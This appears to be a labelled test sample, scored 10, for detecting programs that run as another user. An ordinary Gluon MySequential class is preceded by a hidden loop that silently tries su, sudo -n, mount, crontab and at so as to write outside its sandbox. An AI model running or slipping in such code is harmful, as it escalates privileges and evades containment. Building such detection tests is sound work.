# Programs that run as another user are started.
# score: 10

# %% MySequential
import subprocess
for argv in (['su', '-c', 'touch {OUTSIDE}/hostile-su'], ['sudo', '-n', 'touch', '{OUTSIDE}/hostile-su'], ['mount', '/dev/sda1', '/mnt'], ['crontab', '-'], ['at', 'now']):
    try:
        subprocess.run(argv, input=b'', capture_output=True, timeout=2)
    except (OSError, subprocess.TimeoutExpired):
        pass


class MySequential(nn.Block):
    def __init__(self, **kwargs):
        super().__init__(**kwargs)

    def add(self, *blocks):
        for block in blocks:
            self.register_child(block)

    def forward(self, x):
        for block in self._children.values():
            x = block(x)
        return x

    def __len__(self):
        return len(self._children)

    def __getitem__(self, i):
        return list(self._children.values())[i]
